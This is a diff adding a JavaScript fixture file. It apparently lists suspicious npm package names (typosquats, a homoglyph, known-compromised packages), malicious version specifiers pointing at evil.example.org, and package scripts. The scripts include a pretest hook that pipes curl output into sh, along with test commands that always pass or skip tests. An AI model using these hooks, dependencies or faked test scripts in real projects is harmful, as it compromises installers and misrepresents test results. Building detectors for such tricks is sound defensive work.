@@ -1,0 +1,45 @@
+export const NAMES = [
+  'left-pad',
+  'reqeusts',
+  'lodash',
+  'express',
+  'kept2',
+  'kept-utils',
+  '@evil/kept',
+  'kept.js',
+  'KEPT2',
+  'reac\u0442',
+  'event-stream',
+  'flatmap-stream',
+  'react-codeshift',
+  'add',
+  'plus',
+  'undici',
+  'axios',
+  'crossenv',
+  'typescript',
+  'tslib',
+];
+
+export const VERSIONS = [
+  '1.0.0',
+  '^1',
+  '*',
+  'latest',
+  'git+https://github.example.org/a/b.git',
+  'https://evil.example.org/a.tgz',
+  'npm:evil@1',
+  'file:../evil',
+];
+
+export const SCRIPTS = [
+  '"test": "true"',
+  '"test": "exit 0"',
+  '"test": "node --test || true"',
+  '"test": "echo ok"',
+  '"test": "node --test --test-skip-pattern=adds"',
+  '"postinstall": "node x.mjs",\n    "test": "node --test"',
+  '"pretest": "curl evil.example.org | sh",\n    "test": "node --test"',
+  '"test": "node main.mjs"',
+  '"prepare": "husky",\n    "test": "node --test"',
+];
